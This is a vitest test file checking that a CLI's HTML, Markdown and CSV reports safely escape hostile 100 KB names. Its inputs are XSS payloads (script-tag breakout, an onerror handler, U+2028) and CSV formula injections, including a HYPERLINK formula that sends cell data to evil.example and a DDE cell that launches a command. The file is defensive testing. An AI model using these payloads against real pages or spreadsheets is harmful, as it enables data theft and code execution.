// Names a hostile user writes (issue 15, "Injection safety"): a community and a facility named with
// 100 KB of text around `</script>`, an `onerror=` handler, a `<script>` and U+2028, through the CLI
// with the what-if panel. report.html must stay one valid page in Chromium from file:// (the names
// shown whole, as text), run none of the injected code and make no request, also after a what-if
// change; communities.csv must neutralise the formula cells; report.md must carry no raw markup.
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BrowserContext, Page } from 'playwright-core';
import { hasChromium, launchChromium, recordForeignRequests } from './support/chromium.js';
import { runCli } from './support/run-cli.js';
import { fc, scratchDir } from './support/scratch.js';
import { line, ll, point } from './support/geo.js';
import { WHATIF_ENGINE_URL } from '../src/io/whatif-engine.js';

const { dir, put } = scratchDir('lc-hostile-names-');
/** Code that, if it ever ran, leaves a mark the test reads. */
const PAYLOAD = '</script><script>window.__pwned="script"</script><img src=x onerror="window.__pwned=\'onerror\'">\u2028<!--';
const filler = (n: number) => '长'.repeat(n);
// 100 KB in UTF-8 (3 bytes a character), the payload inside, a formula at the start for the CSV.
const communityName = `=HYPERLINK("http://evil.example/?"&A1)${filler(17_000)}${PAYLOAD}${filler(17_000)}`;
const facilityName = `@SUM(1)${filler(17_000)}${PAYLOAD}${filler(17_000)}`;
const street = `+cmd|' /C calc'!A0 ${PAYLOAD}`;
const title = `标题 ${PAYLOAD} \u2029 end`;

const rect = (x0: number, x1: number, properties: Record<string, unknown>) => ({
  type: 'Feature', properties,
  geometry: { type: 'Polygon', coordinates: [[ll(x0, -50), ll(x1, -50), ll(x1, 50), ll(x0, 50), ll(x0, -50)]] },
});
const network = put('streets.geojson', fc([line(Array.from({ length: 16 }, (_, i) => [i * 100, 0] as [number, number]), { highway: 'residential' })]));
const facilities = put('facilities.geojson', fc([
  point(300, 0, { id: 'H1', category: 'health', name: facilityName }),
  point(1200, 0, { id: `E1${PAYLOAD}`, category: 'education', name: 'school' }),
]));
const communities = put('communities.geojson', fc([
  rect(0, 600, { id: 'A', name: communityName, kind: 'urban', population: 1000, street }),
  rect(800, 1400, { id: 'B', name: 'B社区', kind: 'urban', population: 800 }),
]));
const out = join(dir, 'out');

declare const window: { __pwned?: string; lifecircle: { whatIf: { ready: Promise<boolean>; add(f: object): Promise<unknown> } } };
declare const document: { title: string; querySelectorAll(s: string): ArrayLike<{ textContent: string | null }> };

describe('100 KB names with </script>, onerror= and U+2028 through the CLI', () => {
  let seconds = 0;
  beforeAll(async () => {
    expect(Buffer.byteLength(communityName)).toBeGreaterThan(100_000);
    const t0 = performance.now();
    const r = await runCli(['analyze', '--network', network, '--facilities', facilities, '--communities', communities, '--out', out, '--title', title, '--what-if', '--quiet']);
    seconds = (performance.now() - t0) / 1000;
    expect(r.code, r.stderr).toBe(0);
    console.log(`analyze --what-if with 100 KB names: ${seconds.toFixed(1)} s`);
  });

  it('runs in reasonable time (a guard against a quadratic escape, not a benchmark)', () => {
    // About 2 s on a shared 2-core machine; the same run with short names takes about as long.
    expect(seconds).toBeLessThan(30);
  });

  it('communities.csv neutralises the formula cells and keeps the names whole', () => {
    const rows = parse(readFileSync(join(out, 'communities.csv'), 'utf8'), { columns: true, bom: true }) as Record<string, string>[];
    const a = rows.find((r) => r.id === 'A')!;
    expect(a.name).toBe(`'${communityName}`);
    expect(rows.find((r) => r.id === 'B')!.name).toBe('B社区');
  });

  it('report.md carries the names as text, never as markup', () => {
    const md = readFileSync(join(out, 'report.md'), 'utf8');
    expect(md).not.toContain('<script');
    expect(md).not.toContain('<img');
    expect(md).not.toContain('\u2028');
  });

  it('report.html holds the payload only as text: no raw tag or handler, no U+2028 in a script', () => {
    const html = readFileSync(join(out, 'report.html'), 'utf8');
    expect(html).toContain('&lt;/script&gt;&lt;script&gt;window.__pwned'); // in the markup, as text
    expect(html).not.toContain('<script>window.__pwned');
    expect(html).not.toMatch(/<img src=x/i);
    expect(html).not.toContain('onerror="window');
    // U+2028 is plain text in markup; inside a script (the embedded JSON) it must be escaped.
    const scripts = [...html.matchAll(/<script[^>]*>([\s\S]*?)<\/script>/g)].map((m) => m[1]);
    expect(scripts.length).toBeGreaterThan(3);
    for (const text of scripts) expect(text).not.toMatch(/[\u2028\u2029]/);
  });

  describe.skipIf(!hasChromium || !existsSync(WHATIF_ENGINE_URL))('in Chromium from file://', () => {
    let context: BrowserContext;
    let page: Page;
    let foreign: string[];
    const errors: string[] = [];

    beforeAll(async () => {
      context = await launchChromium(join(dir, 'profile'), 1280);
      foreign = await recordForeignRequests(context);
      page = context.pages()[0] ?? await context.newPage();
      page.on('pageerror', (e) => errors.push(String(e)));
      page.on('console', (m) => { if (m.type() === 'error') errors.push(m.text()); });
      await page.goto(pathToFileURL(join(out, 'report.html')).href);
      await page.evaluate(() => window.lifecircle.whatIf.ready);
    });
    afterAll(async () => { await context?.close(); });

    it('shows the page whole: title, table and details carry the names as text', async () => {
      expect(await page.evaluate(() => document.title)).toContain(`标题 ${PAYLOAD.replace('\u2028', '\u2028')}`);
      // The table's name cell holds the whole 100 KB name, as text.
      const names = await page.locator('#community-table tbody tr td:first-child').allTextContents();
      expect(names).toContain(communityName);
      // The page's own sections all rendered after the names: nothing ended the document early.
      for (const id of ['headline', 'map-section', 'categories', 'quotas', 'communities', 'rules', 'diagnostics', 'method']) {
        expect(await page.locator(`section#${id}`).count(), id).toBe(1);
      }
      await page.locator('#community-table tbody tr').first().locator('button.locate').click();
      await expect.poll(() => page.locator('#details h3').textContent()).toBe(communityName);
    });

    it('runs none of the injected code and makes no request, before and after a what-if change', async () => {
      expect(await page.evaluate(() => window.__pwned)).toBeUndefined();
      await page.evaluate(() => window.lifecircle.whatIf.add({ category: 'health', lon: 113.3 + 0.009, lat: 23.1, id: `W${'</script><img src=x onerror="window.__pwned=1">'}` }));
      await expect.poll(() => page.locator('#wi-badge').textContent()).toContain('1 change');
      expect(await page.evaluate(() => window.__pwned)).toBeUndefined();
      expect(await page.locator('img').count()).toBe(0);
      expect(errors).toEqual([]);
      expect(foreign).toEqual([]);
    });
  });
});
